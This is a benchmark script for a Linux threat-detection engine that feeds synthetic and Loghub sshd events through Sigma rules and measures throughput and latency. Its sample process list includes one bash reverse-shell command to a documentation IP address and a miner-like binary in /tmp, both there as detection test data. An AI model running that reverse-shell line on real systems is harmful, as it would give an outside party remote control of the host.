// `npm run bench:detect`: recorded-style events (real sshd lines from the Loghub OpenSSH sample, process
// starts, connections, listeners, file changes, grouped auditd records) through the engine with the
// SigmaHQ Linux rules plus the built-in pack, on one core. Prints events/s and p50/p99 per-event latency,
// and the same for a naive evaluator (every rule on every event, no index) in the same run.
import { readFileSync, existsSync } from 'node:fs';
import { cpus, hostname, loadavg } from 'node:os';
import { fileURLToPath } from 'node:url';
import { vigil } from '@vigil/proto';
import { DetectionEngine, builtinRulesDir, loadRuleDirs, summarizeRuleSet } from '../dist/index.js';

const here = (p) => fileURLToPath(new URL(p, import.meta.url));
const SIGMA = here('../../../../shared/data/sigma/rules/linux');
const LOGHUB = here('../../../../shared/data/loghub/OpenSSH_2k.log');
const N = Number(process.env.BENCH_EVENTS ?? 400_000);
const PASSES = 8;

// ---- recorded-style events ----------------------------------------------------------------------
let seed = 42;
const rand = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
const pick = (a) => a[Math.floor(rand() * a.length)];

const PROCS = [
  ['/usr/bin/ls', ['ls', '-la', '/var/log']],
  ['/usr/bin/bash', ['bash', '-c', 'for f in *.log; do gzip "$f"; done']],
  ['/usr/bin/python3.11', ['python3', '/opt/app/worker.py', '--queue', 'default']],
  ['/usr/bin/curl', ['curl', '-s', 'http://127.0.0.1:8080/health']],
  ['/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']],
  ['/usr/bin/git', ['git', 'pull', '--ff-only']],
  ['/usr/bin/grep', ['grep', '-r', 'TODO', 'src']],
  ['/usr/lib/postgresql/15/bin/postgres', ['postgres', '-D', '/var/lib/postgresql/15/main']],
  ['/usr/bin/systemctl', ['systemctl', 'status', 'nginx']],
  ['/usr/bin/sed', ['sed', '-i', 's/a/b/', 'conf.ini']],
  ['/usr/bin/find', ['find', '/var/www', '-name', '*.php', '-mtime', '-1']],
  ['/usr/bin/cat', ['cat', '/proc/meminfo']],
  ['/usr/bin/node', ['node', '/srv/api/server.js']],
  ['/usr/bin/sudo', ['sudo', 'apt-get', 'update']],
  ['/usr/bin/wget', ['wget', '-q', 'https://deb.example.org/key.gpg']],
  ['/usr/bin/awk', ['awk', '{print $1}', 'access.log']],
  ['/tmp/.x/kdevtmpfsi', ['./kdevtmpfsi']],
  ['/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']],
  ['/usr/bin/crontab', ['crontab', '-l']],
  ['/usr/bin/chmod', ['chmod', '+x', 'deploy.sh']],
  ['/usr/bin/tar', ['tar', 'czf', 'backup.tgz', '/etc']],
];
const PARENTS = ['/usr/bin/bash', '/usr/sbin/sshd', '/usr/lib/systemd/systemd', '/usr/sbin/cron', '/usr/sbin/nginx', '/usr/bin/python3.11'];
const sshLines = existsSync(LOGHUB) ? readFileSync(LOGHUB, 'utf8').split('\n').filter(Boolean) : [];

function sshdRecord(line) {
  const msg = line.replace(/^.*?sshd\[\d+\]: /, '');
  let m;
  let action = '';
  const fields = {};
  if ((m = /^Failed password for (invalid user )?(\S+) from (\S+) port (\d+)/.exec(msg))) {
    action = 'failed_password';
    Object.assign(fields, { user: m[2], src_ip: m[3], src_port: m[4] });
  } else if ((m = /^Accepted (\S+) for (\S+) from (\S+) port (\d+)/.exec(msg))) {
    action = `accepted_${m[1]}`;
    Object.assign(fields, { user: m[2], src_ip: m[3], src_port: m[4] });
  } else if ((m = /^Invalid user (\S+) from (\S+)/.exec(msg))) {
    action = 'invalid_user';
    Object.assign(fields, { user: m[1], src_ip: m[2] });
  } else if ((m = /rhost=(\S+)/.exec(msg))) {
    action = 'pam_auth_failure';
    fields.src_ip = m[1];
  } else if ((m = /^Received disconnect from (\S+?):/.exec(msg))) {
    action = 'disconnect_received';
    fields.src_ip = m[1];
  }
  return { source: '/var/log/auth.log', raw: line, parser: action ? 'sshd' : '', action, fields, program: 'sshd', hostname: 'LabSZ' };
}

function makeEvent(i) {
  const r = rand();
  const base = { id: `e${i}`, agentId: `agent-${i % 20}`, seq: i + 1, timeNs: String(BigInt(1_700_000_000_000 + i * 3) * 1_000_000n) };
  if (r < 0.4) {
    const [exe, argv] = pick(PROCS);
    const parentExe = pick(PARENTS);
    return {
      ...base,
      processStart: {
        pid: 1000 + i,
        ppid: 900,
        exe,
        argv,
        cwd: '/srv/app',
        uid: 1000,
        user: pick(['deploy', 'www-data', 'root', 'postgres']),
        parentExe,
        parentArgv: [parentExe.split('/').pop()],
        comm: exe.split('/').pop(),
        source: 'procfs',
        sha256: 'a'.repeat(64),
      },
    };
  }
  if (r < 0.55) {
    const out = rand() < 0.7;
    return {
      ...base,
      networkConnection: {
        transport: 1,
        ipVersion: 4,
        localAddress: '10.0.0.5',
        localPort: 40000 + (i % 20000),
        remoteAddress: `203.0.113.${i % 250}`,
        remotePort: pick([443, 80, 5432, 22, 3333, 8080, 53]),
        state: 'ESTABLISHED',
        direction: out ? 1 : 2,
        pid: 500 + (i % 50),
        exe: pick(['/usr/bin/curl', '/usr/bin/node', '/usr/sbin/sshd', '/usr/bin/python3.11']),
        uid: 1000,
      },
    };
  }
  if (r < 0.58)
    return {
      ...base,
      networkListener: { transport: 1, ipVersion: 4, localAddress: '0.0.0.0', localPort: 8000 + (i % 100), pid: 77, exe: '/usr/bin/node', uid: 1000 },
    };
  if (r < 0.85 && sshLines.length) return { ...base, log: sshdRecord(sshLines[i % sshLines.length]) };
  if (r < 0.92) {
    const exe = pick(['/usr/bin/curl', '/usr/bin/ls', '/usr/sbin/useradd', '/usr/bin/kmod']);
    const a0 = exe.split('/').pop();
    return {
      ...base,
      log: {
        source: '/var/log/audit/audit.log',
        parser: 'auditd',
        action: 'execve',
        raw: `type=SYSCALL msg=audit(1700000000.1:${i}): arch=c000003e syscall=59 success=yes exe="${exe}" key="exec" type=EXECVE argc=2 a0="${a0}" a1="-x"`,
        fields: {
          serial: String(i),
          type: 'SYSCALL,EXECVE,CWD,PATH',
          exe,
          key: 'exec',
          comm: a0,
          pid: String(i),
          'syscall.SYSCALL': 'execve',
          'syscall.syscall': '59',
          'syscall.exe': exe,
          'syscall.comm': a0,
          'syscall.key': 'exec',
          'execve.argc': '2',
          'execve.a0': a0,
          'execve.a1': '-x',
          'cwd.cwd': '/root',
          'path.0.name': exe,
          'path.0.nametype': 'NORMAL',
        },
      },
    };
  }
  if (r < 0.96)
    return {
      ...base,
      log: {
        source: '/var/log/syslog',
        raw: `systemd[1]: Started Session ${i} of user deploy.`,
        parser: '',
        action: '',
        fields: {},
        program: 'systemd',
        hostname: 'web-1',
      },
    };
  return {
    ...base,
    fileChange: {
      path: pick(['/etc/passwd', '/etc/hosts', '/etc/cron.d/backup', '/root/.ssh/authorized_keys', '/etc/ssh/sshd_config']),
      action: pick([1, 2, 2, 4]),
      watch: 'fim',
      before: { exists: true, mode: 0o100644, sha256: 'b'.repeat(64) },
      after: { exists: true, mode: 0o100644, sha256: 'c'.repeat(64) },
    },
  };
}

// Decoded exactly as ingest sees them: encode then decode through the generated code.
const POOL = 4096;
const pool = [];
for (let i = 0; i < POOL; i++) {
  const ev = vigil.v1.Event.decode(vigil.v1.Event.encode(vigil.v1.Event.fromObject(makeEvent(i))).finish());
  pool.push({ id: ev.id, agentId: ev.agentId, timeMs: 1_700_000_000_000 + i * 3, event: ev });
}

// ---- rules ----------------------------------------------------------------------------------------
const dirs = [builtinRulesDir(), ...(existsSync(SIGMA) ? [SIGMA] : [])];
const t0 = performance.now();
const rules = loadRuleDirs(dirs);
const loadMs = performance.now() - t0;
const s = summarizeRuleSet(rules);

function run(label, engine) {
  let matches = 0;
  const onMatch = () => {
    matches++;
  };
  // warm-up
  for (let i = 0; i < 50_000; i++) {
    const e = pool[i % POOL];
    engine.evaluate({ ...e, timeMs: e.timeMs }, onMatch);
  }
  // throughput: one core, no per-event timing overhead; PASSES passes, median and best reported
  // (the median resists other processes competing for the core, the best shows the engine's own speed)
  const inputs = pool.map((e) => ({ ...e }));
  matches = 0;
  // Rates are per CPU-second of this process (user + system), i.e. per core: other processes competing
  // for the machine do not count against the engine. Wall-clock rate is printed too.
  const per = Math.ceil(N / PASSES);
  const rates = [];
  const wall = [];
  for (let p = 0; p < PASSES; p++) {
    const start = process.hrtime.bigint();
    const cpu0 = process.cpuUsage();
    for (let i = 0; i < per; i++) {
      const e = inputs[i % POOL];
      e.timeMs += 13_000; // time moves on so correlation windows slide as in a real stream
      engine.evaluate(e, onMatch);
    }
    const cpu = process.cpuUsage(cpu0);
    rates.push(per / ((cpu.user + cpu.system) / 1e6));
    wall.push(per / (Number(process.hrtime.bigint() - start) / 1e9));
  }
  rates.sort((a, b) => a - b);
  wall.sort((a, b) => a - b);
  const eps = rates[Math.floor(rates.length / 2)];
  const best = rates[rates.length - 1];
  const wallEps = wall[Math.floor(wall.length / 2)];
  // latency: each event timed on its own
  const lat = new Float64Array(Math.min(N, 200_000));
  for (let i = 0; i < lat.length; i++) {
    const e = inputs[i % POOL];
    e.timeMs += 13_000;
    const a = process.hrtime.bigint();
    engine.evaluate(e, onMatch);
    lat[i] = Number(process.hrtime.bigint() - a);
  }
  lat.sort();
  const q = (p) => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))] / 1000;
  const r = {
    label,
    eps,
    best,
    wallEps,
    p50us: q(0.5),
    p99us: q(0.99),
    evalsPerEvent: engine.stats.evaluations / engine.stats.events,
    matchesPer1k: (1000 * matches) / N,
  };
  console.log(
    `${label.padEnd(8)} ${Math.round(eps).toLocaleString('en-US').padStart(11)} events/s per core, median pass (best ${Math.round(best).toLocaleString('en-US')}; wall clock ${Math.round(wallEps).toLocaleString('en-US')})   p50 ${r.p50us.toFixed(2)} µs   p99 ${r.p99us.toFixed(2)} µs   rules evaluated/event ${r.evalsPerEvent.toFixed(1)}`,
  );
  return r;
}

console.log(
  `vigil bench:detect  ${new Date().toISOString()}  host ${hostname()}  ${cpus()[0]?.model ?? '?'} x${cpus().length}  node ${process.version}  load average ${loadavg()
    .map((l) => l.toFixed(2))
    .join(' ')}`,
);
console.log(
  `rules: ${s.detections} detection + ${s.correlations} correlation loaded of ${s.documents} documents (${dirs.length} folders) in ${loadMs.toFixed(0)} ms; left out ${s.leftOut}`,
);
console.log(
  `events: ${N.toLocaleString('en-US')} per engine (${PASSES} passes) from a pool of ${POOL} recorded-style events (40% process, 15% connection, 3% listener, 27% sshd lines from Loghub, 7% auditd, 4% syslog, 4% file)`,
);
const indexed = run('indexed', new DetectionEngine(rules));
if (process.env.BENCH_NAIVE === '0') process.exit(0);
const naive = run('naive', new DetectionEngine(rules, { index: false }));
console.log(`speed-up of the index: ${(indexed.eps / naive.eps).toFixed(1)}x events/s, p50 ${(naive.p50us / indexed.p50us).toFixed(1)}x lower`);
console.log(`target > 200,000 events/s on one core: ${indexed.eps > 200_000 ? 'met' : 'NOT met'} (median pass)`);
